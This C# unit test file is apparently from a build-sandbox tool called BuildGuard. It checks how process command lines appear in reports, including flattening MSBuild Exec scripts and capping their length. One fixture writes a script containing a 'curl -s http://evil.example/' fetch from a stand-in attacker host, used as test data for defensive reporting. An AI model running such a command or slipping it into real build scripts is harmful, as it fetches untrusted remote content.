using BuildGuard.Sandbox.Brokers;
using BuildGuard.TestKit;

namespace BuildGuard.Sandbox.Tests;

/// <summary>What a report shows of a process.</summary>
[TestClass]
public sealed class CommandLineTests
{
    [TestMethod]
    public void The_line_of_an_Exec_is_shown_and_not_the_file_that_MSBuild_made_of_it()
    {
        using var temp = new TempFolder();
        var script = temp.Path("tmp12.exec.cmd");
        File.WriteAllText(script, "#!/bin/sh\n\nexport LANG=en_US.UTF-8\n. curl -s http://evil.example/\n\n");
        Assert.AreEqual("/bin/sh -c . curl -s http://evil.example/", CommandLine.Of(["/bin/sh", "-c", $". {script}"]));
        Assert.AreEqual($"/bin/sh -c {script}", CommandLine.Of(["/bin/sh", "-c", script]));
        File.Delete(script);
        Assert.AreEqual($"/bin/sh -c . {script}", CommandLine.Of(["/bin/sh", "-c", $". {script}"]));
        File.CreateSymbolicLink(script, "/etc/hostname");
        Assert.AreEqual($"/bin/sh -c . {script}", CommandLine.Of(["/bin/sh", "-c", $". {script}"]));
    }

    [TestMethod]
    public void It_is_one_line_of_bounded_length()
    {
        Assert.AreEqual("a b c", CommandLine.Of(["a\nb", "c"]));
        Assert.AreEqual(301, CommandLine.Of([new string('x', 100_000)]).Length);
        Assert.AreEqual("", CommandLine.Of([""]));
    }
}
